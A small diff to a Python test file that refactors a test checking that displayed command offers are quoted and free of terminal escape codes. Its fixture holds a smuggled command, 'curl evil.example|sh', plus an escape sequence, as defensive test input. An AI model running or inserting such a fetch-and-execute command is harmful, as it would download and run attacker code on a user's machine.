@@ -12,11 +12,12 @@ from holdfast.conversation import Status, SuspensionKind
 from holdfast.conversation.calls import Cut, PendingView
 
 WRITTEN = "shop:app; curl evil.example|sh\n\x1b[2K"
+STANDING = {"turn_id": None, "reply": None, "error": None, "pending": [], "running": [], "seq": 1}
 
 
 def test_the_commands_that_show_offers_are_quoted():
     for status in (Status.QUARANTINED, Status.GENERATING):
-        state = ConversationState(status, None, None, None, [], [], 1, app=WRITTEN, problem="it cannot be imported")
+        state = ConversationState(**STANDING, status=status, app=WRITTEN, problem="it cannot be imported")
         shown = show.Shown(WRITTEN, state, [], now=3)
         for said in show._reasons(shown, Where()):
             assert "\x1b" not in said
